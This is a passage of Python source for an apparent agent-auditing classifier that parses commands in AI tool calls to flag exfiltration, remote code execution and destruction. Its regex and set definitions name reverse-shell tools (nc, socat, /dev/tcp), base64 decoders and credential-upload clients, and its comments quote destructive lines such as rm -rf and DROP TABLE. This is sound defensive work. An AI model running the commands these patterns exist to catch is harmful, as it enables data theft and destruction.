"""Find the commands in a call and say what they do.

Any string can be a command, whatever its key: a shell line (POSIX, PowerShell, cmd.exe), SQL,
a Python or JavaScript snippet, a database client's command. This module recognises each,
parses it with its own parser (`_shell`, `_sql`, `_code`), unwraps what hides a command (`sudo`,
`sh -c`, `eval`, `$(…)`, `ssh host '…'`, `kubectl exec -- …`, `docker run … sh -c`, `xargs`,
`find -exec`, `python -c`, base64 decoded into a shell) and asks the effect table
(`_effects`) what each simple command does. Pipelines and files carry data from one command to
the next, so a credential file read by one command and uploaded by another is exfiltration, and
a script downloaded then run is remote code.

Work is bounded: a call parses at most `MAX_COMMANDS` commands and nests at most `MAX_DEPTH`
levels; every parser is linear in its input.
"""

from __future__ import annotations

import codecs
import fnmatch
import json
import re
import shlex
from collections.abc import Callable, Collection, Iterator, Mapping, Sequence
from typing import Any, Final

from agentaudit.classifier import _code as code
from agentaudit.classifier import _orders
from agentaudit.classifier import _sql as sqlx
from agentaudit.classifier._detect import Gated, ascii_count
from agentaudit.classifier._detect import split_words as name_words
from agentaudit.classifier._effects import (
    DANGEROUS,
    NOT_ALNUM_RUN,
    WIN_SWITCH,
    CodeCalls,
    Effect,
    EffectTable,
    Judged,
    Sink,
    Words,
    bind_mounts,
    container_spec,
    credential_change_words,
    describe,
    destroy_words,
    in_dir,
    is_cmdlet,
    judge,
    names_pair,
    normalize_path,
    program_name,
    split_words,
    verb_noun,
)
from agentaudit.classifier._shell import Cmd, Word, looks_powershell, shell_word
from agentaudit.classifier._shell import parse as parse_shell

# split and matched per call: compiled once here (re's module functions look each up)
_PATH_LIST_SEPARATOR: Final = re.compile(r"[:\s]")

MAX_COMMANDS: Final = 200
MAX_DEPTH: Final = 6
_ASSIGN: Final = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*=")
_CMDLET: Final = re.compile(r"^[a-z]{2,12}-[a-z][a-z0-9]{1,40}$")
# A `Verb-Noun` word in a text (its verb as group 1), as `looks_powershell` finds them.
_VERB_NOUN: Final = re.compile(r"(?:^|[\s;|({])([A-Za-z][a-z]+)-[A-Z][A-Za-z]+\b")
_OBJECT_LITERAL: Final = re.compile(r"\{[^{}]{0,300}\}")
_PWSH_MARK: Final = re.compile(r"\$env:|(?:^|[;\n{])[ \t]*\$\w+ ?= ?[^=\s]", re.I)
_NOTEBOOK: Final = re.compile(r"(?:^|\n)\s*(?:![A-Za-z./~]|%%(?:bash|sh|script|shell)\b)")
_DYNAMIC_EXEC: Final = Gated(
    r"\b(?:iex|invoke-expression)\s+[\$(]|\bIO\.popen\s*\(\s*\w|\.popen\s*\(\s*cmd|\bsystem\s*\(\s*\$",
    re.I,
)
# A debugger calling the C library's `system` in the process (`call system("rm -rf /x")`).
_DEBUGGER_SYSTEM: Final = re.compile(
    r"(?im)^[ \t]*(?:call|print|p|expr|expression)[ \t]+(?:\(\w+\)[ \t]*)?system[ \t]*"
    r'\([ \t]*"((?:[^"\\\n]|\\.)*)"'
)
# A SQL string literal (`'it''s'`).
_SQL_STRING: Final = re.compile(r"'((?:[^']|'')*)'")
# Kusto (Azure Data Explorer) control commands: the statement after the dot, as SQL reads it
_KUSTO_CONTROL: Final = re.compile(r"\s*\.(?:drop|show|create|alter|set|append|rename)\s+\w", re.I)
_SOCKET_TEXT: Final = Gated(
    r"\b(?:socket\.socket|fsockopen|TCPSocket|TCPClient|Net\.Sockets|IO::Socket|net\.Socket|"
    r"net\.connect|createConnection|/dev/tcp/|socket\s*\(\s*S\b|use\s+Socket|"
    r"net\.Dial(?:TCP|Timeout)?\s*\(|new\s+Socket\s*\(|TcpStream::connect)",
    re.I,
)
_SHELL_PATH: Final = Gated(
    r"(?:^|[\s'\"/])(?:/bin/(?:ba|z|da|k)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?|(?:ba)?sh\s+-i)\b",
    re.I,
)
# The whole environment used as a value: Node's `process.env`, Ruby's `ENV.to_h`/`ENV.to_a`/
# `ENV.inspect`/`ENV.to_s`, PHP's `getenv()` with no name
_ENV_DUMP_JS: Final = Gated(
    r"(?:JSON\.stringify\s*\(\s*process\.env\s*\)|process\.env\s*[,)}]"
    r"|\bENV\.(?:to_h|to_hash|to_a|inspect|to_s)\b|\bgetenv\(\s*\))"
)
_EXEC_WORD: Final = Gated(
    r"\b(?:eval|exec|system|iex|invoke-expression|assert|create_function|Function|runInThisContext|popen|sh\b|bash\b|subprocess\b|child_process\b)",
    re.I,
)
_CMD_FOR: Final = re.compile(
    r"\bfor\s+(?:/[a-z]\s+(?:\"[^\"\n]{0,200}\"\s+)?)*%%?(\w)\s+in\s*\(([^)\n]{0,512})\)\s*do\s+([^\n]{1,4096})",
    re.I,
)
_PWSH_STATIC: Final = re.compile(r"\[([\w.]{1,128})\]::")
_EXEC_LINE: Final = re.compile(r"^\s*(?:Exec\w*|command|cmd|script|run)\s*=\s*(.+)$", re.I | re.M)
_XML_STRING: Final = re.compile(r"<string>([^<]{1,4096})</string>")
_PROGRAM_ARGS: Final = re.compile(
    r"<key>ProgramArguments</key>\s*<array>(.{0,4096}?)</array>", re.S
)


# Shell keywords that start a command which then runs: `do rm …`, `then rm …`, `if rm …`.
_KEYWORDS: Final = frozenset(
    {"do", "then", "else", "elif", "if", "while", "until", "!", "{", "time", "done", "fi", "esac"}
)
_DEV_TCP: Final = re.compile(r"^/dev/(?:tcp|udp)/([^/\s]+)/\d+")
_B64_WORD: Final = re.compile(r"^[A-Za-z0-9+/=_-]{16,}$")
# A script block made from a string (`[scriptblock]::Create('…')`,
# `$ExecutionContext.InvokeCommand.NewScriptBlock("…")`): each scan stops at the next quote.
_SCRIPTBLOCK: Final = re.compile(
    r"(?:\[scriptblock\]::create|\.newscriptblock)\(\s*(?:'([^']{1,4096})'|\"([^\"]{1,4096})\")",
    re.I,
)
# A call written without parentheses (Perl, Ruby, Haskell, OCaml): a name, then a string (its
# escaped quotes kept) or a `glob(…)` made of one. Each scan stops at the next unescaped quote,
# parenthesis or line end.
_PARENLESS_STRING: Final = re.compile(
    r"\b([A-Za-z_][\w:.]{0,127})[ \t]+(\"(?:[^\"\\\n]|\\.){0,4096}\"|'(?:[^'\\\n]|\\.){0,4096}')"
)
_PARENLESS_GLOB: Final = re.compile(r"\b([A-Za-z_][\w:.]{0,127})[ \t]+(glob\([^()\n]{0,4096}\))")


def _with_parentheses(body: str) -> str:
    """`unlink glob "/srv/data/*"` -> `unlink(glob("/srv/data/*"))`, so the call scanner, which
    reads `name(…)`, sees the call."""
    if "(" in body or ('"' not in body and "'" not in body):
        return body  # written with parentheses (or with no string): read as it is
    body = _PARENLESS_STRING.sub(r"\1(\2)", body[:65536])
    return _PARENLESS_GLOB.sub(r"\1(\2)", body) if "glob(" in body else body


_DECLARERS: Final = frozenset({"export", "declare", "typeset", "readonly", "local"})
_APPLESCRIPT_SHELL: Final = re.compile(r"(?i)\bdo\s+shell\s+script\s+\"((?:[^\"\\]|\\.){1,4096})\"")


def _unescape_dq(text: str) -> str:
    """A double-quoted literal's text (`\\"` and `\\\\` undone)."""
    return text.replace('\\"', '"').replace("\\\\", "\\") if "\\" in text else text


_RUN_VARIABLES: Final = frozenset({"PROMPT_COMMAND", "PS0", "BASH_ENV", "ENV"})
_PRELOAD_VARIABLES: Final = frozenset({"LD_PRELOAD", "DYLD_INSERT_LIBRARIES"})


def _hidden_or_temp(t: EffectTable, paths: str) -> bool:
    """A path list (`a.so:b.so`) with one in a scratch folder or behind a hidden name."""
    for p in _PATH_LIST_SEPARATOR.split(paths.strip("'\"")):
        if p and ("/." in p or t.path_scope(p, False) == "temp"):
            return True
    return False


_ESCAPES: Final = re.compile(r"\\[nt]")
_ESCAPED: Final = {"\\n": "\n", "\\t": "\t"}
_CI_SECRET: Final = re.compile(
    r"\$\{\{\s*secrets\.\w{1,100}\s*\}\}", re.I
)  # GitHub Actions' secrets
# A CI template's expression (`${{ secrets.NPM_TOKEN }}`, `${{ github.token }}`): the runner puts
# its value in the line before any shell reads it, so the shell sees a value named by the
# expression — read as the variable `${SECRETS_NPM_TOKEN}`, judged by `secret_variables`.
_CI_EXPR: Final = re.compile(r"\$\{\{\s{0,8}([A-Za-z_][\w.-]{0,100})\s{0,8}\}\}")
_PSQL_COPY: Final = re.compile(r"(?im)^[ \t]{0,64}\\copy\b")
_SENT_FLAGS: Final = frozenset({"-d", "--data", "--data-raw", "--data-binary", "--data-urlencode",
                         "--data-ascii", "-f", "--form", "--form-string", "--json", "--post-data",
                         "--body-data", "-body", "--body"})  # fmt: skip
_ENV_REF: Final = re.compile(r"\$\{?([a-z_][a-z0-9_]{0,63})")
_B64_SHORT: Final = re.compile(r"^[A-Za-z0-9+/=_-]{8,}$")
_HEX_WORD: Final = re.compile(r"^(?:[0-9A-Fa-f]{2}){4,}$")
_REMOTE_HOST: Final = re.compile(r"^(?:[\w.-]+@)?([\w.-]+\.[\w.-]+|\d+\.\d+\.\d+\.\d+|[\w-]+):")
_EMAIL: Final = re.compile(r"[\w.+%-]+@[\w-]+(?:\.[\w-]+)+")
_FIND_FILTERS: Final = frozenset(
    [
        "-name",
        "-iname",
        "-path",
        "-ipath",
        "-regex",
        "-iregex",
        "-newer",
        "-mtime",
        "-mmin",
        "-atime",
        "-amin",
        "-ctime",
        "-cmin",
        "-size",
        "-user",
        "-group",
        "-perm",
        "-empty",
        "-wholename",
        "-iwholename",
        "-lname",
        "-ilname",
        "-links",
    ]
)
_SHELLS: Final = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "busybox"})
_EXECUTORS: Final = frozenset(
    {
        "iex",
        "invoke-expression",
        "source",
        ".",
        "eval",
        "exec",
        "sh",
        "bash",
        "zsh",
        "dash",
        "ksh",
        "ash",
        "fish",
        "python",
        "python3",
        "python2",
        "perl",
        "ruby",
        "php",
        "node",
        "nodejs",
        "lua",
        "osascript",
        "powershell",
        "pwsh",
        "cmd",
        "busybox",
        "mksh",
        "tcsh",
        "csh",
        "deno",
        "bun",
    }
)
_DECODERS: Final = frozenset(
    {
        "base64",
        "base32",
        "base64url",
        "xxd",
        "uudecode",
        "certutil",
        "openssl",
        "gunzip",
        "zcat",
        "rev",
        "basenc",
        "gzip",
        "bzip2",
        "xz",
        "unxz",
        "tr",
    }
)
# Where data sent is outside the organisation (`_places.dest_class`).
_OUTSIDE: Final = frozenset({"unknown", "drop"})
_GIT_VALUE_OPTIONS: Final = frozenset({"-C", "-c", "--git-dir", "--work-tree", "--namespace"})
_NETCAT: Final = frozenset(
    {"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "telnet", "socat"}
)
# socat's addresses: a network one (`TCP:host:port`, `OPENSSL:host:443`) and a file one
_SOCAT_NET: Final = re.compile(
    r"(?i)(?:tcp|tcp4|tcp6|udp|udp4|udp6|openssl|ssl|sctp|tcp-connect|tcp4-connect|openssl-connect)"
    r":\[?([\w.:-]{1,253}?)\]?:\d{1,5}"
)
_SOCAT_FILE: Final = re.compile(r"(?i)(?:file|open|gopen|create|readfile):([^,]{1,4096})")
_CLOUD_REMOTES: Final = frozenset({"rclone"})
# Uploads whose source is their standard input (`rclone rcat remote:f`, `aws s3 cp - s3://…`,
# `scp /dev/stdin host:`): they send what the stage before them prints.
_STDIN_UPLOADS: Final = frozenset({"rcat"})
_STDIN_NAMES: Final = frozenset({"-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"})
_PATCH_FLAGS: Final = frozenset({"-p", "-u", "--patch"})  # `git log -p`: the files' changes shown
_BUCKET_COPIERS: Final = frozenset({"aws", "gsutil", "gcloud", "s3cmd", "mc", "azcopy", "s5cmd"})
_BUCKET_URL: Final = re.compile(  # a bucket or storage account, by scheme or by its service's host
    r"(?i)(?:s3|s3a|gs|az|abfss?|wasbs?|r2|oss|cos)://[\w.-]|https?://(?:[\w-]{1,63}\."
    r"(?:blob|dfs|file)\.core\.windows\.net|storage\.googleapis\.com|[\w.-]{1,63}\.s3[\w.-]{0,40}"
    r"\.amazonaws\.com)(?:[/:?]|$)"
)
_URL_IN_ARGS: Final = re.compile(r"https?://[^\s'\"`)+,]{1,300}")
_BEACON: Final = re.compile(r"\.src\s*=\s*['\"`](https?://[^'\"`\s]{1,300})")
_BARE_METHOD: Final = re.compile(r"\.[a-z_]\w*[!?]?(?![\w(!?])")  # `.delete_all` with no `(` after
_RECORD_WIDE: Final = ("delete_records", "delete_everything", "update_records")
# Code that reads as Ruby, not as Python (`require 'aws-sdk-s3'`, `puts …`, `do |f|`, `end`).
_RUBY_TEXT: Final = re.compile(
    r"^[ \t]*(?:require(?:_relative)?[ \t]+['\"]|puts[ \t]|end[ \t]*$)|\bdo[ \t]*\|", re.M
)
# Swift's `Process`: the program (`executableURL = URL(fileURLWithPath: "/bin/rm")` or
# `launchPath = "/bin/sh"`) and its words (`arguments = ["-rf", "/x"]`)
_SWIFT_PROGRAM: Final = re.compile(
    r'\b(?:executableURL\s*=\s*URL\(\s*fileURLWithPath:\s*|launchPath\s*=\s*)"([^"\n]{1,256})"'
)
_SWIFT_ARGUMENTS: Final = re.compile(r"\barguments\s*=\s*\[([^\]\n]{0,2048})\]")
# Tcl's `exec prog args…` (on its own line or in `[exec …]`); a braced word is one literal word
_TCL_EXEC: Final = re.compile(r"(?:^|\[)[ \t]*exec[ \t]+([^\]\n]{1,2048})", re.M)
_TCL_BRACES: Final = re.compile(r"\{([^{}\n]{0,2048})\}")
# a Tcl command that starts a program, at a line's start, after `;` or in `[…]` (what follows
# on its line is read by the shell, which ends it at a `;` outside braces)
_TCL_RUNS: Final = re.compile(r"(?:^|[\[;])[ \t]*(?:exec|spawn)[ \t]+([^\]\n]{1,2048})", re.M)


# Tcl's `file delete ?-force? ?--? path …`
_TCL_FILE_DELETE: Final = re.compile(
    r"(?:^|[\[;])[ \t]*file[ \t]+delete[ \t]+([^\]\n;]{1,2048})", re.M
)
# Emacs Lisp's calls that delete or run a shell command, with a string first: `(delete-directory
# "/x" t)` (t: with what it holds), `(delete-file "/x")`, `(shell-command "rm -rf /x")`
_ELISP_CALL: Final = re.compile(
    r"\(\s*(delete-directory|delete-file|shell-command|async-shell-command"
    r"|call-process-shell-command|shell-command-to-string)\s+\"((?:[^\"\\\n]|\\.){1,2048})\""
    r"([^()\n]{0,64})\)"
)


def _elisp_line(m: re.Match[str]) -> str:
    """The command line an Emacs Lisp call amounts to."""
    name, arg, rest = m.group(1), m.group(2).replace('\\"', '"'), m.group(3).split()
    if name == "delete-directory":
        recursive = bool(rest) and rest[0] != "nil"
        return ("rm -r -f -- " if recursive else "rmdir -- ") + shlex.quote(arg)
    if name == "delete-file":
        return "rm -f -- " + shlex.quote(arg)
    return arg


def _single_quoted(m: re.Match[str]) -> str:
    """A braced Tcl word as the shell's one word (its own single quotes kept)."""
    return "'" + m.group(1).replace("'", "'\\''") + "'"


# A .NET process's start info, given as properties (`FileName = "bash"`, `Arguments = "…"`)
_START_INFO: Final = re.compile(r'\b(FileName|Arguments)\s*=\s*@?"((?:[^"\\\n]|\\.){0,2048})"')
_RUBY_BARE_CALL: Final = re.compile(r"(\.[a-z_]\w*[!?]?)(?![\w(!?])")
# A method reference (`File::delete`, `Files::deleteIfExists`) passed to be called on each item.
_METHOD_REF: Final = re.compile(r"(?<=[(,\s])([A-Za-z_]\w{0,63})::([A-Za-z_]\w{0,63})(?=\s*[),])")
# A call by a path of names (`std::fs::remove_dir_all(…)`): read as a dotted chain.
_PATH_CALL: Final = re.compile(r"\b((?:[A-Za-z_]\w{0,63}::){1,8}[A-Za-z_]\w{0,63})(?=\s*\()")
_COPY_SINKS: Final = frozenset(
    {"scp", "pscp", "rsync", "sftp", "rclone", "smbclient", "lftp", "ftp"}
)
# Clients given their session's commands (`smbclient //host/share -c 'put .env'`, `tftp host -c
# put FILE`, `lftp -e 'put FILE; bye' host`): what a `put` names goes to the host they reach.
_SESSION_CLIENTS: Final = frozenset({"smbclient", "tftp", "lftp", "ftp", "sftp"})
_SESSION_SCRIPT_FLAGS: Final = frozenset({"-c", "--command", "-e"})
_SESSION_PUTS: Final = frozenset({"put", "mput", "send", "append", "reput"})
_SESSION_HOST: Final = re.compile(r"^(?://|[a-z]+://)?(?:[^@/\s]+@)?([\w-]+(?:\.[\w-]+)+)")
# Local copies and moves: a credential copied into a place others read is published.
_LOCAL_COPIES: Final = frozenset({"cp", "mv", "install", "rsync", "ditto", "copy", "xcopy", "robocopy",
                           "copy-item", "move-item", "cpi", "mi", "move", "ln"})  # fmt: skip
_DEST_FLAGS: Final = frozenset({"-destination", "--target-directory", "-t"})
_MAILERS: Final = frozenset(
    {"mail", "mailx", "mutt", "sendmail", "send-mailmessage", "swaks", "msmtp", "ssmtp", "neomutt"}
)
_DNS: Final = frozenset({"dig", "nslookup", "host", "ping", "drill", "resolve-dnsname"})
_ARCHIVERS: Final = frozenset(
    {
        "tar",
        "zip",
        "7z",
        "7za",
        "rar",
        "gzip",
        "bzip2",
        "xz",
        "cp",
        "copy",
        "copy-item",
        "gpg",
        "openssl",
        "base64",
        "cat",
        "type",
        "get-content",
        "compress-archive",
        "pg_dump",
        "mysqldump",
        "mongodump",
        "sqlite3",
    }
)


class Findings:
    """Everything the commands of one call do. (Per-call classes here are plain classes, not
    dataclasses: mypyc compiles a class's own methods but not those a dataclass generates.)"""

    __slots__ = ("effects", "kinds", "urls", "texts", "programs", "secret_sources", "amounts",
                 "unit_amounts", "partial", "seen", "requests", "dumped", "targets")  # fmt: skip

    def __init__(self) -> None:
        self.effects: list[Effect] = []
        self.kinds: set[str] = set()  # read / write / exec
        self.urls: list[str] = []
        self.texts: list[str] = []  # what was recognised as commands
        self.programs: set[str] = set()
        self.secret_sources: list[str] = []
        self.amounts: list[float] = []  # money moved by code
        self.unit_amounts: list[tuple[float, str]] = []  # (units, asset)
        self.partial = False
        self.seen: set[Effect] = set()
        # HTTP writes made by code, as the fields of a request (`{"method", "url", "json"}`)
        self.requests: list[dict[str, Any]] = []
        self.dumped: list[str] = []  # what dumps and whole-table reads are of, by name
        self.targets: list[str] = []  # orders that change something: where they say (production)

    def add(self, e: Effect) -> None:
        if e not in self.seen:
            self.seen.add(e)
            self.effects.append(e)


class _Ran:
    """One command as run: its words, what it does, where it sits in its script."""

    __slots__ = ("words", "judged", "cmd", "source")

    def __init__(self, words: Words, judged: Judged, cmd: Cmd, source: str) -> None:
        self.words = words
        self.judged = judged
        self.cmd = cmd
        self.source = source  # a secret source it reads ("" if none)


class _Upstream:
    """What the stages of a pipeline before the current one produce."""

    __slots__ = ("fetched", "decoded", "source", "literals", "echoed")

    def __init__(self) -> None:
        self.fetched = False  # content downloaded to stdout
        self.decoded = False  # content decoded (base64 -d, xxd -r…)
        self.source = ""  # the first secret read
        self.literals: list[str] = []  # encoded literals echoed (a few)
        self.echoed: list[str] = []  # the words echoed (a few)

    def add(self, r: _Ran) -> None:
        self.fetched = self.fetched or r.judged.stdout_download
        self.decoded = self.decoded or _decodes(r.words)
        if not self.source and r.source:
            self.source = r.source
        if r.words.program in ("echo", "printf") and len(self.echoed) < 8:
            self.echoed.extend(a for a in r.words.argv[1:9] if not a.startswith("-"))
        if len(self.literals) < 4 and (r.words.program in ("echo", "printf") or r.cmd.heredoc):
            for lit in [*r.words.argv[1:], *([r.cmd.heredoc] if r.cmd.heredoc else [])]:
                if _B64_WORD.match(lit.strip()) and len(self.literals) < 4:
                    self.literals.append(lit)

    def merge(self, other: _Upstream) -> None:
        self.fetched = self.fetched or other.fetched
        self.decoded = self.decoded or other.decoded
        self.source = self.source or other.source
        self.literals.extend(other.literals[: 4 - len(self.literals)])
        self.echoed.extend(other.echoed[: 8 - len(self.echoed)])


class Analyser:
    """What the commands of one call do, found text by text into `out`."""

    __slots__ = ("table", "dest_class", "out", "budget", "tainted", "cwd", "exported",
                 "downloaded", "git_remotes", "git_staged", "aliases", "functions", "hook_dirs", "globs_left", "piped",
                 "destroy_plans", "inner", "scripts", "last_dump", "retagged", "moved")  # fmt: skip

    def __init__(
        self,
        table: EffectTable,
        dest_class: Callable[[str], str],  # host or address -> internal | known | drop | unknown
        budget: int = MAX_COMMANDS,
    ) -> None:
        self.table = table
        self.dest_class = dest_class
        self.out = Findings()
        self.budget = budget
        self.tainted: set[str] = set()  # files holding secrets, or a data store's dump
        self.cwd = ""  # where a `cd` earlier in the script moved to: relative paths are under it
        self.exported = ""  # `env A=1 sh -c '…'`: the assignments the inner shell sees
        self.downloaded: set[str] = set()  # files fetched from outside
        self.git_remotes: dict[str, str] | None = None  # `git remote add NAME URL` (first use)
        self.git_staged: list[str] | None = None  # credential files `git add`ed
        self.aliases: dict[str, list[str]] = {}  # `alias d='rm -rf'`
        self.functions: dict[str, str] = {}  # `f() { rm -rf "$1"; }`: name -> body
        self.hook_dirs: list[str] = []  # `git config core.hooksPath DIR`: Git's hooks live there
        self.globs_left = 4  # program names given as globs (`/bin/r?`) still to resolve
        self.piped = ""  # data the script being judged gets on its standard input ("" none)
        self.destroy_plans: set[str] = set()  # plans saved by `terraform plan -destroy -out`
        self.inner: list[Word] | None = None  # a runner's command given as its own words
        self.scripts: dict[str, str] = {}  # files this script wrote, by path and name: content
        self.last_dump: tuple[Words, list[str] | None] | None = None  # `_dump_of`'s last answer
        self.retagged: dict[str, str] = {}  # `docker tag SRC DST`: DST -> SRC
        self.moved: dict[str, str] = {}  # `mv SRC DST`: DST -> SRC

    # ------------------------------------------------------------------------ entry points
    def text(self, value: str, role: str) -> None:
        """One string of the call. `role`: command (its key or tool says it runs), sql, code,
        or unknown (any other key: recognised only if it clearly is a command)."""
        if self.budget <= 0 or not value.strip():
            return
        if role == "unknown" and _inert_word(self.table, value):
            return
        if value.lstrip()[:4].lower() == "tell" and _APPLESCRIPT_HEAD.match(value):
            self.out.texts.append(value)  # AppleScript given as itself (`{"applescript": …}`)
            self._code_body(value, "applescript", depth=0)
            return
        if "(" in value and sqlx.looks_like_cypher(value):  # `MATCH (`
            self._cypher(value)
            return
        if value.lstrip()[:8].lower() == "mutation" and sqlx.looks_like_graphql(value):
            self._graphql(value)
            return
        if value.lstrip()[:5].lower() == "query" and sqlx.looks_like_graphql_query(value):
            self.out.texts.append(value)
            self.out.kinds.add("read")
            return
        head = value.lstrip()[:1]
        if head and head in self.table.escape_heads and self._shell_escapes(value, "") != value:
            return  # a client's line for the shell (`\\! rm -rf /x`, `.shell …`) as a field
        if "." in value[:8] and _KUSTO_CONTROL.match(value):
            self.sql(value.lstrip()[1:], strict=False)  # Kusto's `.drop table T`, `.show tables`
            return
        if role == "sql":
            if _sql_first(value) or sqlx.looks_like_sql(value):
                self.sql(value, strict=False)
                return
            if not code.looks_like_js(value):
                return
            role = "unknown"  # a query that is a Mongo shell line (`db.x.drop()`), not SQL
        if role == "code" or (("!" in value or "%%" in value) and _NOTEBOOK.search(value)):
            if (
                role == "code"
                and looks_powershell(value)
                and not (code.looks_like_python(value) or code.looks_like_js(value))
                and self._powershell_code(value)
            ):
                self.shell(value, strict=True, depth=0)  # PowerShell given as `code`
                return
            if not self.snippet(value, "code"):
                texts = len(self.out.texts)
                self.shell(value, strict=True, depth=0)
                if len(self.out.texts) == texts and self._line_of_a_program(value):
                    self._severe_line(value)  # a device's configuration line as a `snippet`
            return
        m = _CRON_LINE.match(value) if value[:1] in _CRON_FIRST else None
        if m is not None and ("*" in value[: m.start(1)] or "@" in value[: m.start(1)]):
            self._scheduled(value, m.group(1), depth=0)
            return
        if (
            _sql_first(value)
            and not _execs_program(self.table, value)
            and sqlx.looks_like_sql(value)
        ):
            self.sql(value, strict=role == "unknown")
            return
        py = code.looks_like_python(value)
        if py or code.looks_like_js(value):
            before = len(self.out.effects)
            if self.snippet(value, role, looks_python=py):
                found = bool(dangerous(self.out.effects[before:]))
                # a shell function's body holds calls (`f() { python3 -c "…"; }; f`): a
                # shell's line is read as shell too when the calls found nothing
                if found or role != "command" or _SHELL_FUNCTION_HEAD.match(value) is None:
                    if not found and role != "code" and _runs_code(self.table, value):
                        # an interpreter's or a shell's line holds its code (`bash -c 'node -e
                        # "…"'`): what the shell runs counts when it is severe
                        self._severe_line(value)
                    return
        calls = ("(" in value and _METHOD_CALL.search(value) is not None) or (  # `x.y(`, `A::b(`
            ("|" in value or "&:" in value) and _RUBY_EACH.search(value, 0, 8192) is not None
        )  # or a Ruby block over a listing (`Order.all.each do |o| o.destroy end`)
        if role == "unknown" and calls and self._severe_calls(value):
            return
        if (
            role == "unknown"
            and "(" in value
            and _QUOTED_CALL.search(value) is not None
            and self._severe_calls(value, js_only=False)
        ):
            return  # a call given a string, in any language (`system('rm', '-rf', …)`)
        before = len(self.out.effects)
        texts = len(self.out.texts)
        self.shell(value, strict=role == "unknown", depth=0)
        if len(self.out.texts) == texts and ":" in value[:80]:
            # a command line after a label ("URGENT: hcloud server delete db-1")
            rest = _orders.after_label(value)
            if rest and self.table.knows(program_name(rest.split(None, 1)[0])):
                self.shell(rest, strict=True, depth=0)
        if role == "command" and not dangerous(self.out.effects[before:]):
            if calls:
                self._severe_calls(value)  # a console's line (`rails c`, `tinker`): code, not shell
            elif "(" in value and ("'" in value or '"' in value):
                # no command line at all: code in another language under a command key
                # (`system('rm', '-rf', …)`, `'rm -rf …'.execute()`), counted when severe
                self._severe_calls(value, js_only=False)
        elif role == "unknown" and len(self.out.texts) == texts and self._line_of_a_program(value):
            self._severe_line(value)

    def _line_of_a_program(self, value: str) -> bool:
        """A line the strict shell reading passed over that may still be a command: a program
        the table does not know with flags or by the shape of its name, or one it knows by its
        first two words (read only when severe: see `_severe_line`)."""
        return bool(
            (" -" in value and _FLAGGED_LINE.match(value))
            or _SHAPED_PROGRAM_LINE.match(value)
            or self._table_head(value)
        )

    def _table_head(self, value: str) -> bool:
        """A line whose first two words are a program and a subcommand the table names for it,
        however common the words (a network device's `no ip access-group …`, `set rulebase …`)."""
        words = value.split(None, 2)
        if len(words) < 3:
            return False
        subs = self.table.first_subs.get(words[0].lower())
        return subs is not None and words[1].lower() in subs

    def _severe_line(self, value: str) -> None:
        """One line with flags under a key that says nothing, of a program the table does not
        know (`acmectl purge --all`): counted only when it does something severe, so that prose
        quoting a flag stays prose."""
        probe = Analyser(self.table, self.dest_class, budget=min(self.budget, 8))
        probe.shell(value, strict=False, depth=0)
        severe = dangerous(probe.out.effects)
        if not severe:
            return
        self.budget -= 1
        for e in severe:
            self.out.add(e)
        self.out.texts.append(value)
        self.out.kinds |= probe.out.kinds

    def _scheduled(self, line: str, body: str, depth: int) -> None:
        """A cron table line under any key: its command runs on schedule, for good."""
        words = body.split()
        if (
            len(words) > 1
            and program_name(words[0]) not in self.table.known_programs
            and _USER_NAME.fullmatch(words[0])
            and (program_name(words[1]) in self.table.known_programs or words[1][:1] in "/~.")
        ):
            body = body.split(None, 1)[1]  # a system table's user field (`root curl …`)
        self.out.add(Effect("persist", "", describe("schedules a command", "", False, line)))
        self.shell(body, strict=False, depth=depth + 1)

    def _severe_calls(self, value: str, js_only: bool = True) -> bool:
        """Call chains of any language under a key that says nothing (`DB::connection()->
        statement("DROP TABLE t")`, `User.delete_all`): counted only when they do something
        severe, so that prose naming a method (`fix user.save()`) stays prose."""
        probe = Analyser(self.table, self.dest_class, budget=min(self.budget, 20))
        if not probe.snippet(value, "code", js_only=js_only):
            return False
        severe = dangerous(probe.out.effects)
        if not severe:
            return False
        self.budget -= 1
        for e in severe:
            self.out.add(e)
        self.out.texts.append(value)
        self.out.kinds |= probe.out.kinds
        self.out.urls.extend(probe.out.urls)
        return True

    def _order_target(self, text: str, words: _orders.OrderWords) -> None:
        """Where an order that changes something says it acts (production), unless it edits a
        document that only talks about such a place."""
        if not _orders.about_a_document(text, words):
            self.out.targets.append(text[:4096])

    def orders(self, text: str, words: _orders.OrderWords) -> None:
        """Orders in plain language to another agent (see `_orders`)."""
        if self.budget <= 0:
            return
        self.budget -= 1
        found: list[Effect] = []
        _orders.analyse(text, self.table, words, self.dest_class, found, self.out.amounts)
        for e in found:
            self.out.add(e)
            self.out.kinds.add("write")
        if found:
            self._order_target(text, words)
        else:
            reads, verb = _orders.steps_kind(text, words)
            if reads:
                self.out.kinds.add("read")
            elif verb:
                self.out.kinds.add("write")  # "restart the staging pods": a side effect
                self._order_target(text, words)
                if verb in words.deploy:  # "deploy build 812 to production": where it says
                    what = describe("orders a deploy", "", False, text)
                    self.out.add(Effect("deploy", "", what))
                    self.out.texts.append(text[:4096])
        if _orders.mails_someone(text, words):
            self.out.kinds.add("send")  # a message sent to an address: an outbound message
        for cmd in _orders.commands(text, self.table, words):
            self.text(cmd, "command")  # what the order says to run is judged as run
        for line in _orders.command_lines(text, self.table, words):
            self.text(line, "unknown")  # a command line handed over as it is
        for path, clause in _orders.added_to(text, words):
            self.file_write(path, clause, True, clause, 1)

    def setting(self, key: str, value: str) -> bool:
        """A setting given as a field (`{"acl": "public-read"}`, `{"cidr": "0.0.0.0/0"}`); True
        when it weakens security."""
        if not self.table.settings.field_weakens(key, value):
            return False
        what = describe("sets a weakening value", "", False, f"{key}={value}")
        self.out.add(Effect("weaken_security", "", what))
        return True

    def _retention(self, key: str, value: str, unit: float) -> None:
        """`retention.ms=1`: kept data expired within the hour, deleted at once."""
        try:
            seconds = float(value.strip().strip("'\"")[:32]) * unit
        except ValueError:
            return
        if 0 < seconds < 3600:
            what = describe("expires what it keeps at once", "data", False, f"{key}={value}")
            self.out.add(Effect("destroy", "data", what))

    def _retention_args(self, argv: list[str]) -> None:
        """`--add-config retention.ms=1,cleanup.policy=delete`: settings given as arguments."""
        for a in argv[1:64]:
            if "=" in a:
                for part in a.split(",")[:16]:
                    key, _, value = part.partition("=")
                    unit = self.table.retention.get(key.strip().lower())
                    if unit is not None:
                        self._retention(key, value, unit)

    def scheduled_task(self, xml: str) -> None:
